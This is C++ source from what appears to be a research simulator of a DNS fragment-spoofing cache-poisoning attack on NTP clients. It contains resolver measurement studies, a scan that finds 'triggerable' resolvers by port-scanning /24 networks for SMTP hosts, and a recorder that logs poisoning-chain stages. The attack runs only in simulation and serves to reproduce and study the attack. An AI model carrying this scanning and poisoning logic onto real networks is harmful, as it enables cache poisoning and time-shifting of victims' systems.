    loop.schedule_after(sim::Duration::seconds(2), [&scanner, port, done, cb] {
      if (*done) return;
      *done = true;
      scanner.unbind_udp(port);
      cb(0, std::nullopt);
    });
  };

  // Full per-resolver pipeline: verification then the six probes.
  for (auto& tp : targets) {
    Target* t = tp.get();
    // Step 1: RD=0 for a known-noncached name -> expect no answer.
    query(t, dns::DnsName::from_string("known.verify.example"),
          dns::RrType::kA, /*rd=*/false,
          [&, t](std::size_t answers_noncached, std::optional<u32>) {
            if (answers_noncached != 0) return;  // broken RD handling
            // Step 2: prime with RD=1, then RD=0 must answer.
            query(t, dns::DnsName::from_string("known.verify.example"),
                  dns::RrType::kA, /*rd=*/true,
                  [&, t](std::size_t primed, std::optional<u32>) {
                    if (primed == 0) return;
                    query(t, dns::DnsName::from_string("known.verify.example"),
                          dns::RrType::kA, /*rd=*/false,
                          [&, t](std::size_t cached, std::optional<u32>) {
                            if (cached == 0) return;
                            t->verified = true;
                            // The six Table IV probes.
                            for (int row = 0; row < 6; ++row) {
                              query(t,
                                    dns::DnsName::from_string(
                                        kProbeNames[row]),
                                    kProbeTypes[row], /*rd=*/false,
                                    [t, row](std::size_t n,
                                             std::optional<u32> ttl) {
                                      t->probe_answers[row] = n > 0;
                                      if (row == 1 && ttl) {
                                        t->observed_a_ttl = ttl;
                                      }
                                    });
                            }
                          });
                  });
          });
  }
  loop.run_for(sim::Duration::seconds(30));

  for (const auto& t : targets) {
    if (!t->verified) continue;
    result.verified++;
    for (int row = 0; row < 6; ++row) {
      if (t->probe_answers[row]) {
        result.rows[row].cached++;
      } else {
        result.rows[row].not_cached++;
      }
    }
    if (t->observed_a_ttl) {
      result.ttl_histogram.add(static_cast<double>(*t->observed_a_ttl));
    }
  }
  return result;
}

}  // namespace dnstime::measure
