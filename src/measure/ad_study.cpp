#include "measure/ad_study.h"

#include "dns/nameserver.h"
#include "dns/resolver.h"

namespace dnstime::measure {

namespace {

constexpr u64 kSigfailRealSecret = 0xBAD;   // key the zone signs with
constexpr u64 kSigfailAnchor = 0x600D;      // key validators expect
constexpr u64 kSigrightSecret = 0x5157;     // consistent key

/// Answers any name under its apex with an A record plus TXT padding;
/// optionally signs (with whatever secret it was given — a mismatch with
/// the resolver's trust anchor models sigfail).
class WildcardZone : public dns::ZoneAuthority {
 public:
  WildcardZone(dns::DnsName apex, bool sign, u64 secret,
               std::size_t pad_bytes)
      : apex_(std::move(apex)),
        sign_(sign),
        secret_(secret),
        pad_(pad_bytes) {}

  [[nodiscard]] const dns::DnsName& apex() const override { return apex_; }

  bool handle(const dns::DnsQuestion& q, dns::DnsMessage& response) override {
    if (q.type != dns::RrType::kA) return true;
    std::vector<dns::ResourceRecord> rrset = {
        dns::make_a(q.name, Ipv4Addr{192, 0, 2, 80}, 60)};
    dns::emit_rrset(response.answers, rrset, sign_, secret_);
    if (pad_ > 0) {
      std::vector<dns::ResourceRecord> pad_set = {
          dns::make_txt(q.name, std::string(pad_, 'p'), 60)};
      dns::emit_rrset(response.answers, pad_set, sign_, secret_);
    }
    return true;
  }

 private:
  dns::DnsName apex_;
  bool sign_;
  u64 secret_;
  std::size_t pad_;
};

struct StudyNameserver {
  std::unique_ptr<net::NetStack> stack;
  std::unique_ptr<dns::Nameserver> ns;
  dns::DnsName apex;
};

std::unique_ptr<StudyNameserver> make_study_ns(
    sim::Network& net, Rng& rng, u32 addr, const std::string& apex,
    u16 force_mtu, bool sign, u64 secret, std::size_t pad) {
  auto s = std::make_unique<StudyNameserver>();
  s->apex = dns::DnsName::from_string(apex);
  s->stack = std::make_unique<net::NetStack>(net, Ipv4Addr{addr},
                                             net::StackConfig{}, rng.fork());
  dns::Nameserver::Config nc;
  nc.force_fragment_mtu = force_mtu;
  s->ns = std::make_unique<dns::Nameserver>(*s->stack, nc);
  s->ns->add_zone(std::make_shared<WildcardZone>(s->apex, sign, secret, pad));
  return s;
}

}  // namespace

AdStudyResult run_ad_study(const AdStudyConfig& config) {
  Rng rng(config.seed);
  AdStudyResult result;
  auto clients = sample_ad_clients(rng, config.population);
  result.clients_total = clients.size();

  // Process clients in batches to bound live hosts in the simulation.
  const std::size_t kBatch = 250;
  for (std::size_t batch_start = 0; batch_start < clients.size();
       batch_start += kBatch) {
    sim::EventLoop loop;
    sim::Network net(loop, rng.fork());
    net.set_default_profile(
        sim::LinkProfile{.latency = sim::Duration::millis(10)});

    // Study nameservers: one per test domain.
    struct TestDef {
      const char* label;
      u16 mtu;
      bool sign;
      u64 secret;
      std::size_t pad;
    };
    const TestDef defs[7] = {
        {"baseline", 0, false, 0, 200},
        {"ftiny", 68, false, 0, 1200},
        {"fsmall", 296, false, 0, 1200},
        {"fmedium", 580, false, 0, 1200},
        {"fbig", 1280, false, 0, 1400},
        {"sigfail", 0, true, kSigfailRealSecret, 200},
        {"sigright", 0, true, kSigrightSecret, 200},
    };
    std::vector<std::unique_ptr<StudyNameserver>> study_ns;
    for (int d = 0; d < 7; ++d) {
      study_ns.push_back(make_study_ns(
          net, rng, 0x18000001 + static_cast<u32>(d),
          std::string(defs[d].label) + ".study.example", defs[d].mtu,
          defs[d].sign, defs[d].secret, defs[d].pad));
    }

    struct LiveClient {
      std::unique_ptr<net::NetStack> resolver_stack;
      std::unique_ptr<dns::Resolver> resolver;
      std::unique_ptr<net::NetStack> client_stack;
      std::unique_ptr<dns::StubResolver> stub;
      const AdClientProfile* profile = nullptr;
      bool loaded[7] = {};
    };
    std::vector<std::unique_ptr<LiveClient>> live;

    std::size_t batch_end = std::min(batch_start + kBatch, clients.size());
    for (std::size_t i = batch_start; i < batch_end; ++i) {
      const AdClientProfile& profile = clients[i];
      auto lc = std::make_unique<LiveClient>();
      lc->profile = &profile;

      net::StackConfig rsc;
      if (profile.resolver_min_fragment == 0xFFFF) {
        rsc.accept_fragments = false;
      } else {
        rsc.min_first_fragment_size = profile.resolver_min_fragment;
      }
      lc->resolver_stack = std::make_unique<net::NetStack>(
          net, Ipv4Addr{static_cast<u32>(0x20000000 + i)}, rsc, rng.fork());
      dns::Resolver::Config rc;
      rc.validate_dnssec = profile.resolver_validates_dnssec;
      rc.trust_anchors["sigfail.study.example"] = kSigfailAnchor;
      rc.trust_anchors["sigright.study.example"] = kSigrightSecret;
      lc->resolver = std::make_unique<dns::Resolver>(*lc->resolver_stack, rc);
      for (int d = 0; d < 7; ++d) {
        lc->resolver->add_zone_hint(study_ns[static_cast<std::size_t>(d)]->apex,
                                    {study_ns[static_cast<std::size_t>(d)]
                                         ->stack->addr()});
      }

      lc->client_stack = std::make_unique<net::NetStack>(
          net, Ipv4Addr{static_cast<u32>(0x28000000 + i)},
          net::StackConfig{}, rng.fork());
      lc->stub = std::make_unique<dns::StubResolver>(
          *lc->client_stack, lc->resolver_stack->addr());

      // Fire the seven image loads (unique token avoids caching effects).
      for (int d = 0; d < 7; ++d) {
        std::string host = "t" + std::to_string(i) + "." +
                           std::string(defs[d].label) + ".study.example";
        LiveClient* raw = lc.get();
        lc->stub->resolve(
            dns::DnsName::from_string(host), dns::RrType::kA,
            [raw, d](const std::vector<dns::ResourceRecord>& answers) {
              raw->loaded[d] = !answers.empty();
            });
      }
      live.push_back(std::move(lc));
    }

    loop.run_for(sim::Duration::seconds(20));

    for (const auto& lc : live) {
      const AdClientProfile& p = *lc->profile;
      // The paper's filtering: early-close clients and clients failing
      // baseline/sigright are removed.
      bool valid = p.result_valid && lc->loaded[0] && lc->loaded[6];
      if (!valid) continue;
      result.clients_valid++;

      bool tiny = lc->loaded[1];
      bool any = lc->loaded[1] || lc->loaded[2] || lc->loaded[3] ||
                 lc->loaded[4];
      auto bump = [&](AdStudyCell& cell) {
        cell.total++;
        if (tiny) cell.accepts_tiny++;
        if (any) cell.accepts_any++;
      };
      bump(result.all);
      bump(result.by_region[static_cast<int>(p.region)]);
      if (!p.uses_google_resolver) bump(result.without_google);
      bump(p.device == Device::kPc ? result.pc : result.mobile);
      if (lc->loaded[2]) result.accepts_small++;
      if (lc->loaded[3]) result.accepts_medium++;
      if (lc->loaded[4]) result.accepts_big++;

      // DNSSEC validation: sigfail blocked while sigright loaded.
      if (!lc->loaded[5]) {
        result.validating[static_cast<int>(p.region)]++;
        result.validating_total++;
      }
    }
  }
  return result;
}

}  // namespace dnstime::measure
