#include "measure/shared_resolver.h"

#include "attack/query_trigger.h"
#include "dns/nameserver.h"
#include "dns/resolver.h"

namespace dnstime::measure {

SharedResolverScanResult discover_shared_resolvers(
    const SharedResolverScanConfig& config) {
  Rng rng(config.seed);
  sim::EventLoop loop;
  sim::Network net(loop, rng.fork());
  net.set_default_profile(
      sim::LinkProfile{.latency = sim::Duration::millis(8)});

  auto profiles = sample_web_resolvers(rng, config.population);

  SharedResolverScanResult result;
  result.web_resolvers = profiles.size();

  // The scanner's token nameserver: logs which resolver queries which
  // token domain.
  net::NetStack token_ns_stack(net, Ipv4Addr{198, 51, 100, 20},
                               net::StackConfig{}, rng.fork());
  std::unordered_map<std::string, Ipv4Addr> token_seen_from;
  dns::Nameserver::Config nsc;
  nsc.query_log = [&](Ipv4Addr from, const dns::DnsName& qname) {
    if (!qname.labels().empty()) {
      token_seen_from[qname.labels().front()] = from;
    }
  };
  dns::Nameserver token_ns(token_ns_stack, nsc);
  {
    auto zone = std::make_shared<dns::StaticZone>(
        dns::DnsName::from_string("scan.example"));
    token_ns.add_zone(std::move(zone));
  }

  struct Site {
    std::unique_ptr<net::NetStack> resolver_stack;
    std::unique_ptr<dns::Resolver> resolver;
    std::unique_ptr<net::NetStack> smtp_stack;
    std::unique_ptr<attack::SmtpServer> smtp;
    WebResolverProfile profile;
    bool found_open = false;
    bool found_smtp_host = false;
    std::string token;
  };
  std::vector<std::unique_ptr<Site>> sites;
  for (std::size_t i = 0; i < profiles.size(); ++i) {
    auto s = std::make_unique<Site>();
    s->profile = profiles[i];
    // Each site owns a /24: resolver at .53, optional SMTP host at .25.
    u32 net24 = 0x30000000 + (static_cast<u32>(i) << 8);
    s->resolver_stack = std::make_unique<net::NetStack>(
        net, Ipv4Addr{net24 + 53}, net::StackConfig{}, rng.fork());
    dns::Resolver::Config rc;
    rc.open_to_world = s->profile.is_open;
    s->resolver = std::make_unique<dns::Resolver>(*s->resolver_stack, rc);
    s->resolver->add_zone_hint(dns::DnsName::from_string("scan.example"),
                               {token_ns_stack.addr()});
    if (s->profile.has_smtp_neighbor) {
      s->smtp_stack = std::make_unique<net::NetStack>(
          net, Ipv4Addr{net24 + 25}, net::StackConfig{}, rng.fork());
      s->smtp = std::make_unique<attack::SmtpServer>(
          *s->smtp_stack, s->resolver_stack->addr());
    }
    s->token = "t" + std::to_string(i);
    sites.push_back(std::move(s));
  }

  net::NetStack scanner(net, Ipv4Addr{203, 0, 113, 66}, net::StackConfig{},
                        rng.fork());

  // Phase 1: direct query to every resolver -> open?
  for (auto& sp : sites) {
    Site* s = sp.get();
    u16 port = scanner.ephemeral_port();
    scanner.bind_udp(port, [s, &scanner, port](const net::UdpEndpoint&, u16,
                                               BufView) {
      s->found_open = true;
      scanner.unbind_udp(port);
    });
    dns::DnsMessage q;
    q.id = scanner.rng().next_u16();
    q.rd = true;
    q.questions = {dns::DnsQuestion{
        dns::DnsName::from_string("open-" + s->token + ".scan.example"),
        dns::RrType::kA}};
    scanner.send_udp(s->resolver_stack->addr(), port, kDnsPort,
                     encode_dns_buf(q));
  }
  loop.run_for(sim::Duration::seconds(5));

  // Phase 2: port-scan each resolver's /24 for SMTP banners.
  for (auto& sp : sites) {
    Site* s = sp.get();
    u16 port = scanner.ephemeral_port();
    scanner.bind_udp(port, [s, &scanner, port](const net::UdpEndpoint&, u16,
                                               BufView) {
      s->found_smtp_host = true;
      scanner.unbind_udp(port);
    });
    u32 net24 = s->resolver_stack->addr().value() & 0xFFFFFF00;
    for (u32 host = 1; host < 255; ++host) {
      scanner.send_udp(Ipv4Addr{net24 + host}, port, kSmtpPort, Bytes{});
    }
  }
  loop.run_for(sim::Duration::seconds(5));

  // Phase 3: test mail through every discovered SMTP host; the bounce's
  // anti-spam lookup reveals the mail host's resolver at our nameserver.
  for (auto& sp : sites) {
    Site* s = sp.get();
    if (!s->found_smtp_host) continue;
    result.smtp_hosts_found++;
    u32 net24 = s->resolver_stack->addr().value() & 0xFFFFFF00;
    attack::QueryTrigger::via_smtp(
        scanner, Ipv4Addr{net24 + 25},
        dns::DnsName::from_string(s->token + ".scan.example"));
  }
  loop.run_for(sim::Duration::seconds(5));

  // Classification: overlap token observations with the resolver list.
  for (const auto& sp : sites) {
    const Site* s = sp.get();
    bool smtp_confirmed = false;
    auto it = token_seen_from.find(s->token);
    if (it != token_seen_from.end() &&
        it->second == s->resolver_stack->addr()) {
      smtp_confirmed = true;
    }
    if (s->found_open && smtp_confirmed) {
      result.open_and_smtp++;
    } else if (s->found_open) {
      result.open++;
    } else if (smtp_confirmed) {
      result.smtp_shared++;
    } else {
      result.only_web++;
    }
  }
  return result;
}

}  // namespace dnstime::measure
