// §VIII-B3 / Fig. 7: the timing side-channel cache test and why it fails.
//
// For each resolver, measure t_first (latency of the first query for
// pool.ntp.org IN NS) and t_avg (average latency of subsequent queries,
// which hit the cache); a cached record should give t_first ~ t_avg while
// a cache miss pays the extra resolver->nameserver round trip. Across a
// population with heterogeneous RTTs and jitter, the distribution of
// t_first - t_avg shows no clean threshold T — the paper's negative
// result, which we reproduce.
#pragma once

#include "common/histogram.h"
#include "measure/populations.h"

namespace dnstime::measure {

struct TimingProbeConfig {
  std::size_t resolvers = 3000;
  double cached_fraction = 0.58;  ///< share with the NS record cached
  int followup_queries = 4;
  u64 seed = 0x7131;
};

struct TimingProbeResult {
  std::size_t probed = 0;
  std::size_t cached_truth = 0;
  /// Fig. 7: distribution of t_first - t_avg in milliseconds, clamped to
  /// [-50, 200] as in the paper's plot.
  Histogram deltas{-50, 200, 50};
  std::vector<double> deltas_cached;     ///< ground-truth cached
  std::vector<double> deltas_noncached;  ///< ground-truth not cached

  /// Best achievable classification accuracy over all thresholds T for
  /// "cached iff t_first - t_avg < T" — the separability the paper found
  /// lacking ("no way to reasonably choose a value for T").
  [[nodiscard]] double best_threshold_accuracy() const;
};

[[nodiscard]] TimingProbeResult run_timing_probe(
    const TimingProbeConfig& config);

}  // namespace dnstime::measure
