// §VIII-B3: finding resolvers an attacker can trigger queries through.
//
// Given the resolvers observed serving web clients (from the ad study),
// the scan (1) queries each directly to find open resolvers, (2)
// port-scans each resolver's /24 for SMTP hosts and sends each a test
// mail with a unique token sender-domain; the resolver that then queries
// our nameserver for the token is the SMTP host's resolver. Resolvers
// reachable either way are "triggerable": the attacker can make them emit
// the upstream query the poisoning needs.
#pragma once

#include "measure/populations.h"

namespace dnstime::measure {

struct SharedResolverScanConfig {
  SharedResolverParams population;
  u64 seed = 0x54A12;
};

struct SharedResolverScanResult {
  std::size_t web_resolvers = 0;
  std::size_t only_web = 0;
  std::size_t smtp_shared = 0;   ///< reachable via a co-located mail host
  std::size_t open = 0;          ///< answers direct queries
  std::size_t open_and_smtp = 0;
  std::size_t smtp_hosts_found = 0;

  [[nodiscard]] std::size_t triggerable() const {
    return smtp_shared + open + open_and_smtp;
  }
  [[nodiscard]] double triggerable_fraction() const {
    return web_resolvers == 0
               ? 0
               : static_cast<double>(triggerable()) / web_resolvers;
  }
};

[[nodiscard]] SharedResolverScanResult discover_shared_resolvers(
    const SharedResolverScanConfig& config);

}  // namespace dnstime::measure
