#include "measure/populations.h"

namespace dnstime::measure {

PoolServerProfile sample_pool_server(Rng& rng, const PoolServerParams& p) {
  PoolServerProfile profile;
  profile.rate_limits = rng.chance(p.rate_limit_fraction);
  profile.sends_kod =
      profile.rate_limits && rng.chance(p.kod_fraction_of_limiters);
  profile.open_config = rng.chance(p.open_config_fraction);
  return profile;
}

NameserverProfile sample_nameserver(Rng& rng, const DomainParams& p) {
  NameserverProfile profile;
  profile.dnssec_signed = rng.chance(p.dnssec_fraction);
  profile.honors_pmtud = rng.chance(p.fragments_fraction);
  if (!profile.honors_pmtud) {
    profile.min_fragment_size = net::kEthernetMtu;
    return profile;
  }
  if (rng.chance(p.min548_fraction)) {
    profile.min_fragment_size =
        rng.chance(p.min292_fraction / p.min548_fraction) ? 292 : 548;
  } else {
    // The Fig. 5 tail: fragments, but only down to near-Ethernet sizes.
    profile.min_fragment_size = 1276;
  }
  return profile;
}

OpenResolverProfile sample_open_resolver(Rng& rng,
                                         const OpenResolverParams& p) {
  OpenResolverProfile profile;
  profile.cached_ns = rng.chance(p.cached_ns);
  profile.cached_a = rng.chance(p.cached_a);
  for (int i = 0; i < 4; ++i) {
    profile.cached_sub_a[i] = rng.chance(p.cached_sub_a[i]);
  }
  if (profile.cached_a) {
    // A record TTL is 150 s; a cache populated at a random time in the
    // past holds a uniformly distributed remainder (Fig. 6).
    profile.a_ttl_remaining = static_cast<u32>(rng.uniform(1, 149));
  }
  profile.ignores_rd_bit = rng.chance(p.ignores_rd_bit);
  profile.accepts_fragments = rng.chance(p.accepts_fragments);
  return profile;
}

const char* region_name(Region r) {
  switch (r) {
    case Region::kAsia: return "Asia";
    case Region::kAfrica: return "Africa";
    case Region::kEurope: return "Europe";
    case Region::kNorthAmerica: return "Northern America";
    case Region::kLatinAmerica: return "Latin America";
  }
  return "?";
}

std::vector<AdClientProfile> sample_ad_clients(Rng& rng,
                                               const AdClientParams& p) {
  std::vector<AdClientProfile> clients;
  for (const auto& [region, count] : p.region_counts) {
    for (std::size_t i = 0; i < count; ++i) {
      AdClientProfile c;
      c.region = region;
      c.device = rng.chance(p.mobile_fraction) ? Device::kMobile
                                               : Device::kPc;
      c.uses_google_resolver = rng.chance(p.google_resolver_fraction);
      // NB: thresholds use the sizes fragments actually take on the
      // wire — payloads are 8-aligned, so MTU 296 emits 292-byte leading
      // fragments and MTU 1280 emits 1276-byte ones.
      if (c.uses_google_resolver) {
        // Google's resolvers filter every fragment size below "big".
        c.resolver_min_fragment = 1276;
      } else {
        double accept_tiny =
            p.accept_tiny_by_region[static_cast<int>(region)];
        double u = rng.uniform01();
        if (u < accept_tiny) {
          c.resolver_min_fragment = 0;
        } else if (u < accept_tiny + p.accept_small_extra) {
          c.resolver_min_fragment = 292;
        } else if (u < accept_tiny + p.accept_small_extra +
                           p.accept_medium_extra) {
          c.resolver_min_fragment = 580;
        } else if (u < accept_tiny + p.accept_small_extra +
                           p.accept_medium_extra + p.accept_big_extra) {
          c.resolver_min_fragment = 1276;
        } else {
          c.resolver_min_fragment = 0xFFFF;  // rejects all fragments
        }
      }
      c.resolver_validates_dnssec =
          rng.chance(p.dnssec_validation[static_cast<int>(region)]);
      c.result_valid = !rng.chance(p.invalid_result_fraction);
      clients.push_back(c);
    }
  }
  return clients;
}

std::vector<WebResolverProfile> sample_web_resolvers(
    Rng& rng, const SharedResolverParams& p) {
  std::vector<WebResolverProfile> out;
  out.reserve(p.web_resolvers);
  for (std::size_t i = 0; i < p.web_resolvers; ++i) {
    WebResolverProfile r;
    double u = rng.uniform01();
    if (u < p.open_and_smtp_fraction) {
      r.is_open = true;
      r.has_smtp_neighbor = true;
    } else if (u < p.open_and_smtp_fraction + p.open_fraction) {
      r.is_open = true;
    } else if (u < p.open_and_smtp_fraction + p.open_fraction +
                       p.smtp_shared_fraction) {
      r.has_smtp_neighbor = true;
    }
    out.push_back(r);
  }
  return out;
}

}  // namespace dnstime::measure
