// Failure flight recorder: an always-on bounded ring of provenance events
// for the current trial, dumped as a deterministic "attack narrative"
// timeline when a trial errors, times out, or matches a --dump-on
// predicate.
//
// The recorder answers the question PR 6's counters cannot: not *how
// much* happened but *why this trial* failed — which spoofed fragment was
// reassembled, which cache entry it poisoned, which client adopted the
// poisoned answer, and where in that causal chain the attack broke.
//
// Three pieces:
//  * Origin stamps (common/origin.h).  stamp() hands out stamps whose
//    sequence numbers are drawn from a provenance RNG stream derived from
//    the trial seed — deterministic labels that never encode addresses or
//    wall time.  The stamped buffer paths (PacketBuf copy/slice/COW,
//    ByteWriter::grow, fragmentation, reassembly) carry them for free.
//  * A fixed-capacity ring (kRingCapacity events, no allocation after the
//    first record) holding the most recent chain events.  Long trials
//    overwrite the oldest events; the overwritten count is reported.
//  * Per-stage chain points that survive ring overwrite: the first
//    occurrence and total count of each causal stage (PMTU reduced →
//    spoofed fragments injected → reassembled with a spoofed part → cache
//    poisoned → poisoned answer served → NTP peer steered → clock
//    shifted), so the narrative can name where the chain broke even when
//    the triggering events scrolled out of the ring hours of sim-time ago.
//
// Hot-path cost mirrors the tracer: every DNSTIME_PROV_* site is one
// thread_local load + branch when no recorder is installed, and compiles
// out entirely under DNSTIME_OBS=0.  A trial runs on exactly one worker
// thread and only that thread's recorder is installed, so recording takes
// no locks and the dump is byte-identical at any thread count.
#pragma once

#include <cstring>
#include <string>
#include <vector>

#include "common/origin.h"
#include "common/rng.h"
#include "common/types.h"
#include "obs/counters.h"  // for the DNSTIME_OBS default

namespace dnstime::obs {

/// Event kinds recorded into the ring.  The first kChainStageCount kinds
/// after kPhase map 1:1 onto causal chain stages (in attack order).
enum class ProvKind : u8 {
  kPhase = 0,          ///< trial phase marker (detail = phase name)
  kPmtuReduced,        ///< victim stack accepted an ICMP frag-needed
  kSpoofedInject,      ///< attacker planted a spoofed fragment (send_raw)
  kReasmSpoofed,       ///< reassembly completed using a spoofed part
  kCachePoisoned,      ///< resolver cached an rrset from a spoofed payload
  kPoisonedServed,     ///< resolver answered a client from a tainted entry
  kPeerSteered,        ///< an NTP client adopted/selected a tainted server
  kReasmComplete,      ///< reassembly completed (legitimate parts only)
  kCacheInsert,        ///< resolver cached a legitimate rrset (context)
  kPeerAdopted,        ///< an NTP client adopted a legitimate server
  kPeerSelected,       ///< ntpd changed its system peer (legitimate)
  kError,              ///< the trial raised an error (detail = message)
};

[[nodiscard]] const char* to_string(ProvKind k);

/// Causal chain stages, in attack order.  Stages 0..5 are counted from
/// recorded events; kClockShifted is decided by the trial result at dump
/// time (success means the time shift landed).
enum class ChainStage : u8 {
  kPmtuReduced = 0,
  kSpoofedInject,
  kReasmSpoofed,
  kCachePoisoned,
  kPoisonedServed,
  kPeerSteered,
  kClockShifted,
};
inline constexpr std::size_t kChainStageCount = 7;

[[nodiscard]] const char* to_string(ChainStage s);

/// Salt mixed with the trial seed to derive the provenance stream —
/// a fixed constant so stamps never perturb the trial's own Rng draws.
inline constexpr u64 kProvStreamSalt = 0x70726f76656e616eULL;  // "provenan"

/// Records one trial's recent provenance events plus chain-stage
/// summaries.  Construction is cheap (the ring allocates lazily); the
/// campaign runner installs one per trial.
class FlightRecorder {
 public:
  static constexpr std::size_t kRingCapacity = 4096;
  static constexpr std::size_t kDetailCapacity = 24;

  /// Fixed-size ring slot.  `detail` is a truncated NUL-padded label
  /// (cache key, phase name, error prefix) — no allocation per event.
  struct Event {
    i64 ts_ns = 0;
    u64 a = 0;        ///< kind-specific (mtu, ipid, bytes, addr, ...)
    u64 b = 0;        ///< kind-specific (addr, offset units, parts, ...)
    u32 seq = 0;      ///< ordinal of this event within the trial (1-based)
    u32 ref_seq = 0;  ///< Origin::seq of the packet involved (0 = none)
    ProvKind kind = ProvKind::kPhase;
    OriginModule module = OriginModule::kUnknown;
    u8 flags = 0;     ///< Origin flag bits of the packet involved
    char detail[kDetailCapacity] = {};
  };

  /// First occurrence + total count per chain stage; survives ring
  /// overwrite so the narrative keeps the chain even for 6-hour trials.
  struct ChainPoint {
    u64 count = 0;
    i64 first_ts_ns = 0;
    u32 first_seq = 0;      ///< event seq of the first occurrence
    u32 first_ref_seq = 0;  ///< packet seq of the first occurrence
    char detail[kDetailCapacity] = {};
  };

  /// Trial outcome supplied by the caller at dump time (the recorder
  /// never sees the TrialResult type — obs must not depend on campaign).
  struct DumpContext {
    bool has_result = false;
    bool success = false;
    double duration_s = 0.0;
    double clock_shift_s = 0.0;
    std::string error;
  };

  FlightRecorder() = default;
  FlightRecorder(const FlightRecorder&) = delete;
  FlightRecorder& operator=(const FlightRecorder&) = delete;

  /// Campaign context for the dump metadata; also seeds the provenance
  /// stream (mix_seed(trial_seed, kProvStreamSalt)) that stamp() draws
  /// sequence numbers from.
  void set_meta(std::string scenario, u64 campaign_seed, u32 trial,
                u64 trial_seed);

  /// Mint an origin stamp for a packet emitted now.  The sequence number
  /// is the next draw from the trial's provenance stream — a xorshift64*
  /// generator rather than the sim's Rng, because this runs once per
  /// emitted packet and a distribution draw's divide would blow the <=2%
  /// overhead budget on the flood path.
  [[nodiscard]] Origin stamp(i64 ts_ns, OriginModule module, u8 flags = 0) {
    u64 s = prov_state_;
    s ^= s >> 12;
    s ^= s << 25;
    s ^= s >> 27;
    prov_state_ = s;
    Origin o;
    o.ts_ns = ts_ns;
    o.seq = static_cast<u32>((s * 0x2545F4914F6CDD1Dull) >> 32);
    if (o.seq == 0) o.seq = 1;  // 0 means unstamped
    o.module = module;
    o.flags = flags;
    stamps_++;
    return o;
  }

  /// Addresses the scenario declared attacker-controlled; peer events
  /// against one of them count as the chain's "peer steered" stage.
  void add_tainted(u32 addr);
  [[nodiscard]] bool is_tainted(u32 addr) const;

  // --- recording sites (called through the DNSTIME_PROV_EVENT macro) ---
  void phase(i64 ts_ns, const char* name);
  void pmtu_reduced(i64 ts_ns, OriginModule module, u16 mtu, u32 dst_addr);
  void spoofed_inject(i64 ts_ns, const Origin& o, u16 ipid, u16 offset_units);
  void reassembled(i64 ts_ns, const Origin& merged, u64 bytes, u64 parts);
  void cache_insert(i64 ts_ns, const Origin& o, const char* name);
  void poisoned_served(i64 ts_ns, const Origin& entry_origin,
                       const char* name);
  void peer_adopted(i64 ts_ns, OriginModule module, u32 addr);
  void peer_selected(i64 ts_ns, OriginModule module, u32 addr);
  void error(const std::string& message);

  [[nodiscard]] std::size_t size() const { return count_; }
  [[nodiscard]] u64 overwritten() const { return overwritten_; }
  [[nodiscard]] u64 stamps() const { return stamps_; }
  [[nodiscard]] u64 recorded() const { return next_event_seq_; }
  [[nodiscard]] const ChainPoint& chain(ChainStage s) const {
    return chain_[static_cast<std::size_t>(s)];
  }

  /// Deepest chain stage with at least one occurrence (kClockShifted when
  /// `success`), or nullptr when even the first stage never happened.
  [[nodiscard]] const char* chain_reached(bool success) const;
  /// First missing stage after the deepest reached one, or nullptr when
  /// the whole chain completed.
  [[nodiscard]] const char* chain_broke_at(bool success) const;

  /// Events oldest-to-newest (unwinds the ring; dump-time only).
  [[nodiscard]] std::vector<Event> events_in_order() const;

  /// The deterministic attack-narrative JSON: metadata, trial result,
  /// chain summary (stages / reached / broke_at) and the ring's events.
  /// A pure function of recorded sim events + ctx, so a runner dump and a
  /// tools/attack_narrative replay of the same trial are byte-identical.
  [[nodiscard]] std::string to_json(const DumpContext& ctx) const;

 private:
  const Event& record(ProvKind kind, i64 ts_ns, OriginModule module, u8 flags,
                      u32 ref_seq, u64 a, u64 b, const char* detail);
  void note_chain(ChainStage stage, const Event& e);

  std::vector<Event> ring_;  // lazily sized to kRingCapacity
  std::size_t head_ = 0;     // next write position
  std::size_t count_ = 0;    // events currently held (<= kRingCapacity)
  u64 overwritten_ = 0;
  u64 stamps_ = 0;
  u32 next_event_seq_ = 0;
  i64 last_ts_ns_ = 0;
  ChainPoint chain_[kChainStageCount];
  std::vector<u32> tainted_;

  std::string scenario_;
  u64 campaign_seed_ = 0;
  u64 trial_seed_ = 0;
  u32 trial_ = 0;
  bool has_meta_ = false;
  u64 prov_state_ = kProvStreamSalt;  // xorshift64* state; never zero
};

namespace detail {
/// Storage for the per-thread installed recorder.  Lives in the header as
/// an inline variable so current_flight() compiles to a single
/// thread-local load at every macro site instead of an opaque call.
inline thread_local FlightRecorder* tls_flight = nullptr;
}  // namespace detail

/// The calling thread's installed flight recorder, or nullptr.
[[nodiscard]] inline FlightRecorder* current_flight() {
  return detail::tls_flight;
}

/// Installs `recorder` for the current scope, restoring the previous one
/// (usually nullptr) on destruction.
class ScopedFlightRecorder {
 public:
  explicit ScopedFlightRecorder(FlightRecorder* recorder);
  ~ScopedFlightRecorder();
  ScopedFlightRecorder(const ScopedFlightRecorder&) = delete;
  ScopedFlightRecorder& operator=(const ScopedFlightRecorder&) = delete;

 private:
  FlightRecorder* previous_;
};

}  // namespace dnstime::obs

#if DNSTIME_OBS

/// Stamp `buf` (a PacketBuf) with a fresh origin if a recorder is
/// installed; a no-op (one thread_local load + branch) otherwise.
#define DNSTIME_PROV_STAMP(buf, ts_ns, module, origin_flags)              \
  do {                                                                    \
    if (::dnstime::obs::FlightRecorder* dnstime_flight_ =                 \
            ::dnstime::obs::current_flight()) {                           \
      (buf).set_origin(                                                   \
          dnstime_flight_->stamp((ts_ns), (module), (origin_flags)));     \
    }                                                                     \
  } while (0)

/// Invoke a FlightRecorder member call (e.g. phase(ts, "attack")) on the
/// installed recorder, if any.  Arguments are not evaluated when no
/// recorder is installed.
#define DNSTIME_PROV_EVENT(member_call)                                   \
  do {                                                                    \
    if (::dnstime::obs::FlightRecorder* dnstime_flight_ =                 \
            ::dnstime::obs::current_flight()) {                           \
      dnstime_flight_->member_call;                                       \
    }                                                                     \
  } while (0)

#else  // !DNSTIME_OBS

#define DNSTIME_PROV_STAMP(buf, ts_ns, module, origin_flags) ((void)0)
#define DNSTIME_PROV_EVENT(member_call) ((void)0)

#endif  // DNSTIME_OBS
