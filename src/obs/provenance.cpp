#include "obs/provenance.h"

#include <algorithm>
#include <cstdio>
#include <cstring>

#include "obs/json_util.h"

namespace dnstime::obs {
namespace {

/// Dotted-quad rendering of a simulated address for event detail labels
/// (simulated topology addresses, never host addresses).
void format_addr(char* out, std::size_t cap, u32 addr) {
  std::snprintf(out, cap, "%u.%u.%u.%u", (addr >> 24) & 0xFF,
